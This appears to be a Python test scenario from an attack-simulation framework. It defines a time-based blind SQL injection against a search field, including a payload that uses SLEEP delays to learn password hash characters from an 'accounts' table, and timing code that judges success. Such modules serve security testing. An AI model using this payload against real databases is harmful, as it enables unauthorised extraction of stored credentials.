"""F1: an injected SLEEP reveals yes or no by its duration."""

import time

from backwatch.attack.clients.pymysql import PyMySQL
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import SearchPage


class TimeInjected(SearchPage):
    """The search text ends the literal and goes on as a statement."""

    attack = "asks the database questions whose answers are delays, through a search field"
    reference = "https://owasp.org/www-community/attacks/Blind_SQL_Injection"
    injected = "x' OR (id = 1 AND (SELECT SLEEP(1) FROM accounts WHERE id = 1 AND password LIKE '$%')) -- "
    runs = (Run(PyMySQL),)

    def meet(self) -> object:
        """Return the seconds that the search took."""
        begin = time.monotonic()
        self.answer(self.injected)
        return time.monotonic() - begin

    @classmethod
    def has_succeeded(cls, service: object, got: object) -> bool:
        """Return whether the delay came: yes, the hash begins with that letter."""
        del service
        return isinstance(got, float) and got >= 0.9
